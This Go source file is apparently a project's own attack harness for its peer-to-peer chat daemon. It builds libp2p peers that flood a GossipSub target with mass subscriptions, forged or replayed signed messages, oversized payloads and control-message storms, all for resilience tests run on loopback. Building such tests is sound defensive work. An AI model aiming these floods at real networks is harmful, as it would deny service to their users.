// Package attack is darkchat's own attacker: libp2p peers that speak
// GossipSub's wire protocol directly (length-prefixed protobuf RPCs on a
// /meshsub stream), so they can send what no honest router would: millions
// of subscriptions, floods of messages with random signatures, under as
// many peer IDs as the caller wants. The attack tests (tstest/attacktest)
// point it at real darkchatd processes.
//
// Every attack is bounded by its context and by counts the caller gives;
// it targets only the addresses it is handed, which tests keep on
// loopback or in their own network namespaces.
package attack

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"strconv"
	"sync/atomic"
	"time"

	"darkchat/identity"

	"github.com/libp2p/go-libp2p"
	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"google.golang.org/protobuf/proto"
)

// meshsub is the GossipSub protocol the attacker speaks.
const meshsub = protocol.ID("/meshsub/1.1.0")

// channelTopicPrefix is the namespace of channel topics (PROTOCOL.md §4.3),
// the one darkchatd's subscription filter admits for channels.
const channelTopicPrefix = "darkchat/v2/channel/"

// Peer is one attacking libp2p host with one peer ID.
type Peer struct {
	h host.Host
	// connectedAt is when its connection to the target was set up (zero
	// until then).
	connectedAt time.Time
}

// NewPeer starts an attacking host listening on TCP at listen (for example
// "/ip4/127.0.0.1/tcp/0"). It answers the target's own GossipSub stream by
// reading and discarding it, so the target treats it as a GossipSub peer.
func NewPeer(listen string) (*Peer, error) {
	h, err := libp2p.New(libp2p.ListenAddrStrings(listen), libp2p.DisableRelay())
	if err != nil {
		return nil, err
	}
	h.SetStreamHandler(meshsub, func(s network.Stream) {
		io.Copy(io.Discard, io.LimitReader(s, 64<<20))
		s.Reset()
	})
	return &Peer{h: h}, nil
}

// ID is the peer's ID.
func (p *Peer) ID() peer.ID { return p.h.ID() }

// Close stops the host.
func (p *Peer) Close() error { return p.h.Close() }

// Connected reports whether the peer is still connected to target.
func (p *Peer) Connected(target peer.ID) bool {
	return p.h.Network().Connectedness(target) == network.Connected
}

// ErrNotConnected: the target refused the peer's connection (or it timed
// out); the peer never sent anything.
var ErrNotConnected = errors.New("connect")

// stream connects to target and opens a GossipSub stream.
func (p *Peer) stream(ctx context.Context, target peer.AddrInfo) (network.Stream, error) {
	if err := p.h.Connect(ctx, target); err != nil {
		return nil, fmt.Errorf("%w: %w", ErrNotConnected, err)
	}
	p.connectedAt = time.Now()
	s, err := p.h.NewStream(ctx, target.ID, meshsub)
	if err != nil {
		return nil, fmt.Errorf("open %s: %w", meshsub, err)
	}
	return s, nil
}

// writeRPC writes one length-prefixed RPC.
func writeRPC(s network.Stream, rpc *pb.RPC, buf []byte) ([]byte, error) {
	buf = binary.AppendUvarint(buf[:0], uint64(proto.Size(rpc)))
	buf, err := proto.MarshalOptions{}.MarshalAppend(buf, rpc)
	if err != nil {
		return buf, err
	}
	s.SetWriteDeadline(time.Now().Add(5 * time.Second))
	_, err = s.Write(buf)
	return buf, err
}

// SubscriptionFlood announces subscriptions to fresh topics in channel
// namespace ("darkchat/v2/channel/<prefix><n>"), perRPC at a time, until
// ctx ends, the target closes the stream, or max topics were announced. It
// returns how many it announced and the error that ended it (nil when ctx
// or max did).
func (p *Peer) SubscriptionFlood(ctx context.Context, target peer.AddrInfo, prefix string, perRPC, max int) (int, error) {
	s, err := p.stream(ctx, target)
	if err != nil {
		return 0, err
	}
	defer s.Reset()
	var buf []byte
	sub := true
	announced := 0
	for announced < max && ctx.Err() == nil {
		rpc := &pb.RPC{}
		for range min(perRPC, max-announced) {
			topic := channelTopicPrefix + prefix + strconv.Itoa(announced)
			rpc.Subscriptions = append(rpc.Subscriptions, &pb.RPC_SubOpts{Subscribe: &sub, Topicid: &topic})
			announced++
		}
		if buf, err = writeRPC(s, rpc, buf); err != nil {
			return announced, err
		}
	}
	return announced, nil
}

// InvalidFlood publishes channel messages on channel whose signatures are
// random (everything else well formed and fresh, so the target must verify
// each one), perRPC per RPC, until ctx ends, the target closes the stream or
// max messages were sent. It returns how many it sent.
func (p *Peer) InvalidFlood(ctx context.Context, target peer.AddrInfo, channel string, perRPC, max int, sent *atomic.Int64) error {
	s, err := p.stream(ctx, target)
	if err != nil {
		return err
	}
	defer s.Reset()
	key, err := identity.GenerateKey()
	if err != nil {
		return err
	}
	tmpl, err := identity.NewChannelMessage(key, channel, "mallory", "flood", time.Now())
	if err != nil {
		return err
	}
	topic := channelTopicPrefix + channel
	var buf []byte
	for n := 0; n < max && ctx.Err() == nil; {
		rpc := &pb.RPC{}
		for range min(perRPC, max-n) {
			m := tmpl
			m.Timestamp = time.Now().UnixMilli()
			m.ID = identity.NewMessageID()
			rand.Read(m.Sig[:]) // random: valid with negligible probability
			data, err := m.MarshalBinary()
			if err != nil {
				return err
			}
			rpc.Publish = append(rpc.Publish, &pb.Message{Data: data, Topic: &topic})
			n++
		}
		if buf, err = writeRPC(s, rpc, buf); err != nil {
			return err
		}
		sent.Add(int64(len(rpc.Publish)))
	}
	return nil
}

// publishFlood publishes the messages next makes (perRPC per RPC) on
// channel until ctx ends, the target closes the stream or next returns
// nil, counting them in sent.
func (p *Peer) publishFlood(ctx context.Context, target peer.AddrInfo, channel string, perRPC int, sent *atomic.Int64, next func() []byte) error {
	s, err := p.stream(ctx, target)
	if err != nil {
		return err
	}
	defer s.Reset()
	topic := channelTopicPrefix + channel
	var buf []byte
	for ctx.Err() == nil {
		rpc := &pb.RPC{}
		for range perRPC {
			data := next()
			if data == nil {
				break
			}
			rpc.Publish = append(rpc.Publish, &pb.Message{Data: data, Topic: &topic})
		}
		if len(rpc.Publish) == 0 {
			return nil
		}
		if buf, err = writeRPC(s, rpc, buf); err != nil {
			return err
		}
		sent.Add(int64(len(rpc.Publish)))
	}
	return nil
}

// SignedFlood publishes validly signed, fresh messages on channel, taking
// their authors from keys in turn: a flood under many keys, each of which
// a node must verify unless it refuses the key first.
func (p *Peer) SignedFlood(ctx context.Context, target peer.AddrInfo, channel string, keys []identity.PrivateKey, perRPC int, sent *atomic.Int64) error {
	i := 0
	return p.publishFlood(ctx, target, channel, perRPC, sent, func() []byte {
		m, err := identity.NewChannelMessage(keys[i%len(keys)], channel, "mallory"+strconv.Itoa(i%len(keys)), "flood", time.Now())
		i++
		if err != nil {
			return nil
		}
		data, _ := m.MarshalBinary()
		return data
	})
}

// ReplayFlood publishes validly signed messages dated age ago, as a replay
// of messages captured then would be, cycling through count of them.
func (p *Peer) ReplayFlood(ctx context.Context, target peer.AddrInfo, channel string, age time.Duration, count, perRPC int, sent *atomic.Int64) error {
	key, err := identity.GenerateKey()
	if err != nil {
		return err
	}
	old := make([][]byte, count)
	for i := range old {
		m, err := identity.NewChannelMessage(key, channel, "mallory", "said long ago "+strconv.Itoa(i), time.Now().Add(-age))
		if err != nil {
			return err
		}
		if old[i], err = m.MarshalBinary(); err != nil {
			return err
		}
	}
	i := 0
	return p.publishFlood(ctx, target, channel, perRPC, sent, func() []byte {
		i++
		return old[i%len(old)]
	})
}

// OversizedFlood publishes messages of size random bytes on channel.
func (p *Peer) OversizedFlood(ctx context.Context, target peer.AddrInfo, channel string, size, perRPC int, sent *atomic.Int64) error {
	data := make([]byte, size)
	return p.publishFlood(ctx, target, channel, perRPC, sent, func() []byte {
		rand.Read(data[:64]) // distinct messages, not duplicates
		return bytes.Clone(data)
	})
}

// ControlFlood sends GossipSub control messages about channel: IHAVE and
// IWANT with ids random message IDs each, a GRAFT and a PRUNE, in every
// RPC, until ctx ends or the target closes the stream. It counts the RPCs.
func (p *Peer) ControlFlood(ctx context.Context, target peer.AddrInfo, channel string, ids int, sent *atomic.Int64) error {
	s, err := p.stream(ctx, target)
	if err != nil {
		return err
	}
	defer s.Reset()
	topic := channelTopicPrefix + channel
	sub := true
	// Join the topic first, as a peer must for its GRAFTs to count.
	buf, err := writeRPC(s, &pb.RPC{Subscriptions: []*pb.RPC_SubOpts{{Subscribe: &sub, Topicid: &topic}}}, nil)
	if err != nil {
		return err
	}
	msgIDs := make([]string, ids)
	raw := make([]byte, 32*ids)
	for ctx.Err() == nil {
		rand.Read(raw)
		for i := range msgIDs {
			msgIDs[i] = string(raw[32*i : 32*i+32])
		}
		rpc := &pb.RPC{Control: &pb.ControlMessage{
			Ihave: []*pb.ControlIHave{{TopicID: &topic, MessageIDs: msgIDs}},
			Iwant: []*pb.ControlIWant{{MessageIDs: msgIDs}},
			Graft: []*pb.ControlGraft{{TopicID: &topic}},
			Prune: []*pb.ControlPrune{{TopicID: &topic}},
		}}
		if buf, err = writeRPC(s, rpc, buf); err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}
